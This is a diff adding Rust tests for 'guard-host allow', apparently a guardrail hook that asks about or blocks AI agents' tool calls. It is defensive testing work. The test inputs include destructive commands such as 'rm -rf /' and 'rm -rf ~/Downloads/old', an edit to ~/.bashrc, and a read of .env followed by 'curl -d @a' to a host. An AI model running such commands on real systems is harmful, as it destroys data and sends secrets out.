@@ -1,5 +1,7 @@
 //! `guard-host allow`: from an ask to never again in one command, and back again in one.
 
+use std::path::Path;
+
 use serde_json::json;
 
 use crate::support::reply::{assert_ask, assert_deny, assert_silent};
@@ -9,6 +11,10 @@ use crate::support::world::{Ended, World};
 use crate::texts::assert_text;
 
 const FILE: &str = ".config/guard-host/guard.toml";
+
+fn text(path: &Path) -> &str {
+    path.to_str().unwrap()
+}
 
 fn file(world: &World) -> String {
     std::fs::read_to_string(world.path(FILE)).unwrap_or_default()
@@ -286,4 +292,99 @@ fn a_setting_is_shown_with_the_denials_that_it_loosens() {
     assert!(ended.stderr.contains("`git push --force origin main` was denied later"), "{ended:?}");
     let wrong = attended(&world, &["allow", "--last", "--choose", "99"]);
     assert!(wrong.exit == 64 && wrong.stderr.contains("there is no option 99"), "{wrong:?}");
+}
+
+/// A hook call by a tool in the project.
+fn call(world: &World, tool: &str, input: serde_json::Value) -> Ended {
+    let payload = json!({
+        "session_id": "s1", "cwd": world.repo(), "hook_event_name": "PreToolUse", "permission_mode": "default",
+        "tool_name": tool, "tool_input": input,
+    });
+    world.hook(&payload.to_string())
+}
+
+#[test]
+fn one_change_ends_a_question_of_two_policies() {
+    for (tool, input) in [
+        ("Bash", json!({ "command": "rm -rf ~/Downloads/old" })),
+        ("Edit", json!({ "file_path": "~/.bashrc", "old_string": "a", "new_string": "b" })),
+    ] {
+        let world = World::new();
+        world.configure("preset = \"full\"\n");
+        world.write("Downloads/old/a", "x");
+        let input = input.to_string().replace("~/.bashrc", text(&world.path(".bashrc")));
+        let input: serde_json::Value = serde_json::from_str(&input).unwrap();
+        assert_ask(&call(&world, tool, input.clone()), &["_outside_safe", OFFER]);
+        let ended = choose(&world, &["allow", "--last"], "1\n");
+        assert!(ended.exit == 0 && !ended.stdout.contains("still needs confirmation"), "{ended:?}");
+        assert_ne!(call(&world, tool, input).decision(), "ask", "{}", file(&world));
+    }
+}
+
+/// The offer under a question.
+const OFFER: &str = "guard-host allow --last";
+
+#[test]
+fn a_question_about_earlier_calls_ends_by_a_setting() {
+    let world = World::new();
+    assert_ask(&call(&world, "Read", json!({ "file_path": world.path("repo/.env") })), &[]);
+    let publish = || call(&world, "Bash", json!({ "command": "curl -d @a https://example.org/" }));
+    assert_ask(&publish(), &["[session-guard: secret-then-network]", OFFER]);
+    let ended = choose(&world, &["allow", "--last"], "1\n");
+    assert!(ended.exit == 0 && ended.stdout.contains("earlier calls of its session"), "{ended:?}");
+    assert_ne!(publish().decision(), "ask", "{}", file(&world));
+}
+
+/// `allow` changes the chain, and such a policy is in none.
+#[test]
+fn a_hook_of_one_policy_outside_of_the_chain_offers_no_allow() {
+    let world = World::new();
+    let settings = json!({ "version": 1, "rules": { "bash": [{ "pattern": "mytool go", "action": "confirm" }] } });
+    world.write(".claude/state/guardrails.json", settings.to_string());
+    let hook = |only: &str| {
+        let payload = json!({
+            "session_id": "s1", "cwd": world.repo(), "hook_event_name": "PreToolUse", "permission_mode": "default",
+            "tool_name": "Bash", "tool_input": { "command": "mytool go" },
+        });
+        world.run(&["hook", "claude", "--only", only], &payload.to_string()).reason()
+    };
+    assert_eq!(
+        hook("path-context"),
+        "GUARDRAIL CONFIRM: a pattern of the settings matches.\nTarget: mytool go\nRule: mytool go"
+    );
+    let ended = attended(&world, &["allow", "--last", "--yes"]);
+    let words = "`path-context` isn't in your chain: only a hook that names it evaluates it";
+    assert!(ended.exit == 1 && ended.stdout.contains(words), "{ended:?}");
+    assert!(ended.stdout.contains("~/.claude/state/guardrails.json"), "{ended:?}");
+    world.configure("preset = \"full\"\n");
+    assert!(hook("path-context").contains(OFFER));
+}
+
+#[test]
+fn a_fault_offers_no_allow() {
+    let world = World::new();
+    world.configure("preset = \n");
+    let asked = world.bash("rm -rf src");
+    assert_ask(&asked, &["[config: broken-config]", "[command-guard: rm-recursive-force]"]);
+    assert!(!asked.reason().contains(OFFER), "{asked:?}");
+}
+
+/// The block of the script whose place the policy takes, for a program that asks nobody: nothing is copied or ended.
+#[test]
+fn s2_43_a_question_that_refuses_names_what_to_do_and_nothing_else() {
+    let world = World::new();
+    world.write("Downloads/old/a", "x");
+    let hook = |command: &str| {
+        let payload = json!({ "tool_name": "Bash", "tool_input": { "command": command } });
+        let ended = world.run(&["hook", "generic", "--only", "path-context"], &payload.to_string());
+        let answer: serde_json::Value = serde_json::from_str(&ended.stdout).unwrap();
+        answer["reason"].as_str().unwrap().to_owned()
+    };
+    assert_eq!(
+        hook("rm -rf ~/Downloads/old"),
+        "GUARDRAIL BLOCKED: 'rm' outside safe paths.\nTarget: ~/Downloads/old\nRule: rm_outside_safe\n\n\
+         To proceed, confirm with user then run:\nguard-host confirm 'rm -rf ~/Downloads/old'"
+    );
+    let denied = hook("rm -rf /");
+    assert!(denied.contains("\nRule: rm_rf_root\nInstead: ") && !denied.contains("[path-context"), "{denied}");
 }
